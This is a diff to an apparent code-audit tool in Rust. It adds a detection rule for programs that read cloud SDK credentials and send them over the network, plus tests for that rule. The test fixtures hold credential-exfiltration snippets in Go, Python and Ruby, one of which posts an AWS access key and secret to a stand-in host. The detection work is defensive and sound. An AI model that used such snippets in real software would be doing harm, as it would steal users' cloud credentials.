@@ -24,6 +24,15 @@ pub(super) static CUES: &[Cue] = &[
         ..Cue::PLAIN
     },
     Cue {
+        means: Means::Rule("source-to-sink"),
+        what: "a cloud SDK's resolved credentials taken as values in a program that sends",
+        needs: "retrieve(|get_credentials|get_frozen_credentials|fromnodeproviderchain|getcredentials",
+        pattern: r"(?:\.Credentials\.Retrieve\s*\(|\.get_(?:frozen_)?credentials\s*\(\s*\)|\bfromNodeProviderChain\s*\(|\.getCredentials\s*\(\s*\))",
+        also: r"(?i)(?:\brequests\.post|\bhttpx\.post|urlopen|\bfetch\s*\(|https?\.request|\baxios\.post|http\.(?:Post|NewRequest)|\.Post\s*\(|Invoke-RestMethod|\bcurl\b|\bsocket\b|net\.Dial)",
+        place: CuePlace::Script,
+        ..Cue::PLAIN
+    },
+    Cue {
         means: Means::Source,
         what: "an OS credential vault or a token file",
         needs: "passwordvault|retrievepassword|credread|vault-token|get_password|get-storedcredential",
@@ -233,6 +242,32 @@ mod tests {
                 (
                     "p.rb",
                     "home = Dir.home\npaths = [[File.join(home, \".cargo\"), \"credentials.toml\"]]\nreq = Net::HTTP::Post.new(uri)\nreq.body = File.read(File.join(*paths.first))\n",
+                ),
+            ],
+        );
+    }
+
+    #[test]
+    fn sdk_credentials_taken_as_values_and_sent_are_refused() {
+        use crate::audit::cues::{caught, high};
+        // Honest: the SDK signs its own calls; nothing else is sent.
+        assert!(
+            high(&[(
+                "cost.go",
+                "cfg, _ := config.LoadDefaultConfig(ctx)\nclient := costexplorer.NewFromConfig(cfg)\nout, _ := client.GetCostAndUsage(ctx, in)\n"
+            )])
+            .is_empty()
+        );
+        caught(
+            &["source-to-sink"],
+            &[
+                (
+                    "baseline.go",
+                    "creds, err := cfg.Credentials.Retrieve(ctx)\nbody, _ := json.Marshal(map[string]string{\"k\": creds.AccessKeyID, \"s\": creds.SecretAccessKey})\nc := &http.Client{}\nc.Post(\"https://baseline.example/enrol\", \"application/json\", bytes.NewReader(body))\n",
+                ),
+                (
+                    "b.py",
+                    "creds = boto3.Session().get_credentials().get_frozen_credentials()\nrequests.post(URL, json=creds._asdict())\n",
                 ),
             ],
         );
